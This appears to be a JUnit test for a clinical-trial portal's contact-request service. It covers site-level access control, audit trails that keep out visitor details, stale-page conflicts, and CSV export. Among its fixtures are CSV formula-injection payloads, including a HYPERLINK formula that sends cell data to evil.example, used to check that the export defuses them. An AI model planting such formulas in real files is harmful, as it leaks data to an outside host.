package org.opentrials.portal.services.contact;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.persistence.EntityManager;
import java.io.StringWriter;
import java.io.UncheckedIOException;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicReference;
import java.util.function.Function;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.opentrials.portal.domain.audit.AuditAction;
import org.opentrials.portal.domain.contact.RequestStatus;
import org.opentrials.portal.domain.staff.Role;
import org.opentrials.portal.services.audit.AuditEntryView;
import org.opentrials.portal.services.audit.AuditFilter;
import org.opentrials.portal.services.audit.AuditFixtures;
import org.opentrials.portal.services.demo.MisleDemoTrial;
import org.opentrials.portal.services.persistence.JpaContactRequestRepository;
import org.opentrials.portal.services.persistence.JpaSiteRepository;
import org.opentrials.portal.services.persistence.JpaTrialRepository;
import org.opentrials.portal.services.persistence.TestDatabase;
import org.opentrials.portal.services.shared.AccessDenied;
import org.opentrials.portal.services.sites.SiteAccess;

/**
 * A site's team reads and works through its contact requests; nobody else sees them, and what the
 * audit trail keeps of it names the request, never the visitor. On a real database.
 */
class SiteRequestsTest {
  private static final Clock CLOCK =
      Clock.fixed(Instant.parse("2026-11-20T10:00:00Z"), ZoneOffset.UTC);
  private static final String CEDARS = "cedars-sinai";
  private static final String MUSC = "medical-university-of-south-carolina";
  private static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Call\")";

  private TestDatabase db;
  private PayloadCipher cipher;
  private String anaReference;

  @BeforeEach
  void setUp() {
    db = new TestDatabase();
    db.inTransaction(
        em -> {
          var trial = MisleDemoTrial.trial();
          trial.structureCriteria(demoCriteria());
          new JpaTrialRepository(em).add(trial);
          MisleDemoTrial.sites().forEach(new JpaSiteRepository(em)::add);
        });
    db.inTransaction(
        em -> {
          AuditFixtures.account(em, "admin.test", Role.ADMINISTRATOR);
          AuditFixtures.account(em, "cedars.test", Role.INVESTIGATOR, siteId(em, CEDARS));
          AuditFixtures.account(em, "musc.test", Role.INVESTIGATOR, siteId(em, MUSC));
          AuditFixtures.account(em, "sponsor.test", Role.SPONSOR_STAFF)
              .assignTrial(MisleDemoTrial.NCT);
        });
    byte[] key = new byte[32];
    key[3] = 9;
    cipher = new PayloadCipher("test-1", Map.of("test-1", new SecretKeySpec(key, "AES")));
    anaReference =
        submit(
            "form-ana",
            CEDARS,
            new ContactDetails("Ana Testperson", "+1 310-555-0100", "ana@example.org", "MORNING"),
            Map.of("age", "34"),
            "LIKELY_ELIGIBLE");
    submit(
        "form-hostile",
        CEDARS,
        new ContactDetails(HYPERLINK, "-1 555 0100", "@evil@example.org".substring(1), "ANY"),
        Map.of("age", "=1+1"),
        "NEEDS_REVIEW");
    submit(
        "form-musc",
        MUSC,
        new ContactDetails("Bea Charleston", "843-555-0199", null, "EVENING"),
        Map.of(),
        null);
  }

  @AfterEach
  void close() {
    db.close();
  }

  @Test
  void theSitesInvestigatorReadsItsRequestsOpened() {
    var list = as("cedars.test", s -> s.listForSite(MisleDemoTrial.NCT, CEDARS));
    assertThat(list.siteName()).contains("Cedars-Sinai");
    assertThat(list.requests()).hasSize(2);
    RequestView ana =
        list.requests().stream()
            .filter(r -> r.reference().equals(anaReference))
            .findFirst()
            .orElseThrow();
    assertThat(ana.name()).isEqualTo("Ana Testperson");
    assertThat(ana.phone()).isEqualTo("+1 310-555-0100");
    assertThat(ana.email()).isEqualTo("ana@example.org");
    assertThat(ana.preferredTime()).isEqualTo("MORNING");
    assertThat(ana.verdict()).isEqualTo("LIKELY_ELIGIBLE");
    assertThat(ana.consentVersion()).isEqualTo(ContactRequests.CONSENT_VERSION);
    assertThat(ana.answers())
        .as("the question in the words the visitor read")
        .containsExactly("How old are you? 34");
    assertThat(ana.status()).isEqualTo(RequestStatus.NEW);
    assertThat(ana.receivedAt()).isEqualTo(CLOCK.instant());
    assertThat(list.requests()).extracting(RequestView::name).doesNotContain("Bea Charleston");
    assertThat(as("admin.test", s -> s.listForSite(MisleDemoTrial.NCT, MUSC)).requests())
        .extracting(RequestView::name)
        .containsExactly("Bea Charleston");
  }

  @Test
  void anotherInvestigatorAndSponsorStaffAreRefusedAndTheTryRecorded() {
    assertThat(refused("musc.test", s -> s.listForSite(MisleDemoTrial.NCT, CEDARS)))
        .isInstanceOf(AccessDenied.class);
    assertThat(
            refused(
                "musc.test",
                s ->
                    s.changeStatus(
                        MisleDemoTrial.NCT, CEDARS, anaReference, RequestStatus.WITHDRAWN, 1)))
        .isInstanceOf(AccessDenied.class);
    assertThat(refused("sponsor.test", s -> s.listForSite(MisleDemoTrial.NCT, CEDARS)))
        .as("sponsor staff never see personal data")
        .isInstanceOf(AccessDenied.class);
    List<AuditEntryView> denied =
        audit(new AuditFilter(null, AuditAction.ACCESS_DENIED, null, null, null));
    assertThat(denied)
        .hasSize(3)
        .allSatisfy(e -> assertThat(e.entityKey()).isEqualTo("NCT02633163/cedars-sinai"));
    assertThat(denied)
        .extracting(AuditEntryView::reason)
        .contains(
            "tried to read the site's contact requests",
            "tried to change a contact request's status");
    assertThat(as("admin.test", s -> s.listForSite(MisleDemoTrial.NCT, CEDARS)).requests())
        .allMatch(r -> r.status() == RequestStatus.NEW);
  }

  @Test
  void aStatusChangeIsRecordedWithTheReferenceOnly() {
    RequestView ana = ana();
    RequestView contacted =
        as(
            "cedars.test",
            s ->
                s.changeStatus(
                    MisleDemoTrial.NCT,
                    CEDARS,
                    anaReference,
                    RequestStatus.CONTACTED,
                    ana.version()));
    assertThat(contacted.status()).isEqualTo(RequestStatus.CONTACTED);
    assertThat(contacted.statusChangedAt()).isEqualTo(CLOCK.instant());
    assertThat(audit(new AuditFilter("cedars.test", AuditAction.UPDATE, null, null, null)))
        .singleElement()
        .satisfies(
            e -> {
              assertThat(e.entityType()).isEqualTo("ContactRequest");
              assertThat(e.entityKey()).isEqualTo(anaReference);
              assertThat(e.field()).isEqualTo("status");
              assertThat(e.oldValue()).isEqualTo("NEW");
              assertThat(e.newValue()).isEqualTo("CONTACTED");
              assertThat(String.valueOf(e))
                  .doesNotContain("Ana", "310-555", "ana@example.org", "MORNING");
            });
  }

  @Test
  void aChangeFromAStalePageIsRefusedAndNothingChanges() {
    RequestView seen = ana();
    as(
        "admin.test",
        s ->
            s.changeStatus(
                MisleDemoTrial.NCT, CEDARS, anaReference, RequestStatus.CONTACTED, seen.version()));
    RuntimeException late =
        refused(
            "cedars.test",
            s ->
                s.changeStatus(
                    MisleDemoTrial.NCT,
                    CEDARS,
                    anaReference,
                    RequestStatus.NOT_ELIGIBLE,
                    seen.version()));
    assertThat(late).isInstanceOf(RequestConflict.class);
    assertThat(((RequestConflict) late).stored().status()).isEqualTo(RequestStatus.CONTACTED);
    assertThat(ana().status()).isEqualTo(RequestStatus.CONTACTED);
  }

  @Test
  void aReferenceOfAnotherSiteIsUnknownHere() {
    var musc = as("admin.test", s -> s.listForSite(MisleDemoTrial.NCT, MUSC)).requests().get(0);
    assertThat(
            refused(
                "cedars.test",
                s ->
                    s.changeStatus(
                        MisleDemoTrial.NCT,
                        CEDARS,
                        musc.reference(),
                        RequestStatus.WITHDRAWN,
                        musc.version())))
        .isInstanceOf(RequestNotFound.class);
    assertThat(
            as("admin.test", s -> s.listForSite(MisleDemoTrial.NCT, MUSC))
                .requests()
                .get(0)
                .status())
        .isEqualTo(RequestStatus.NEW);
  }

  @Test
  void theExportHoldsOnlyTheInvestigatorsSitesWithFormulasDefused() {
    String csv = as("cedars.test", SiteRequestsTest::export);
    assertThat(csv).startsWith("\"reference\",\"trial\",\"site\",\"kind\",\"status\"");
    assertThat(csv.split("\r\n")).hasSize(3);
    assertThat(csv)
        .contains(
            "\"Ana Testperson\"",
            "\"'+1 310-555-0100\"",
            "\"ana@example.org\"",
            "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&A1,\"\"Call\"\")\"",
            "\"'-1 555 0100\"",
            "\"How old are you? =1+1\"")
        .doesNotContain("Bea Charleston", ",\"=HYPERLINK", ",\"+1", ",\"-1");
    assertThat(audit(new AuditFilter("cedars.test", AuditAction.EXPORT, null, null, null)))
        .singleElement()
        .satisfies(
            e -> assertThat(e.newValue()).isEqualTo("2 requests of NCT02633163/cedars-sinai"));

    assertThat(as("admin.test", SiteRequestsTest::export))
        .contains("Bea Charleston", "Ana Testperson");
    assertThat(refused("sponsor.test", SiteRequestsTest::export)).isInstanceOf(AccessDenied.class);
  }

  private static String export(SiteRequests s) {
    StringWriter out = new StringWriter();
    try {
      s.exportCsv(out);
    } catch (java.io.IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toString();
  }

  private RequestView ana() {
    return as("admin.test", s -> s.listForSite(MisleDemoTrial.NCT, CEDARS)).requests().stream()
        .filter(r -> r.reference().equals(anaReference))
        .findFirst()
        .orElseThrow();
  }

  private String submit(
      String key,
      String slug,
      ContactDetails details,
      Map<String, String> answers,
      String verdict) {
    AtomicReference<String> reference = new AtomicReference<>();
    db.inTransaction(
        em -> {
          ContactRequests service = ContactFixtures.service(em, cipher, CLOCK);
          reference.set(
              service
                  .submit(
                      new ContactRequests.Submission(
                          key, MisleDemoTrial.NCT, slug, details, true, answers, verdict))
                  .reference());
        });
    return reference.get();
  }

  private <T> T as(String username, Function<SiteRequests, T> work) {
    return db.call(em -> work.apply(service(em, username)));
  }

  private RuntimeException refused(String username, Function<SiteRequests, ?> work) {
    return db.refusal(em -> work.apply(service(em, username)));
  }

  private List<AuditEntryView> audit(AuditFilter filter) {
    return AuditFixtures.entries(db, filter, CLOCK);
  }

  private SiteRequestsService service(EntityManager em, String username) {
    var trail = AuditFixtures.trail(em, username, CLOCK);
    var caller = AuditFixtures.caller(em, username);
    return new SiteRequestsService(
        em,
        new SiteAccess(new JpaSiteRepository(em), caller, trail),
        new JpaContactRequestRepository(em),
        contact(em),
        trail,
        CLOCK,
        new org.opentrials.portal.services.persistence.JpaTrialRepository(em),
        new JpaSiteRepository(em));
  }

  private ContactRequests contact(EntityManager em) {
    return new ContactRequests(
        new JpaContactRequestRepository(em),
        new org.opentrials.portal.services.persistence.JpaTrialRepository(em),
        new JpaSiteRepository(em),
        cipher,
        CLOCK);
  }

  private static String demoCriteria() {
    try (var in = SiteRequestsTest.class.getResourceAsStream("/demo/criteria/NCT02633163.json")) {
      return new String(in.readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
    } catch (java.io.IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  private static Long siteId(EntityManager em, String slug) {
    return new JpaSiteRepository(em).findBySlug(MisleDemoTrial.NCT, slug).orElseThrow().id();
  }
}
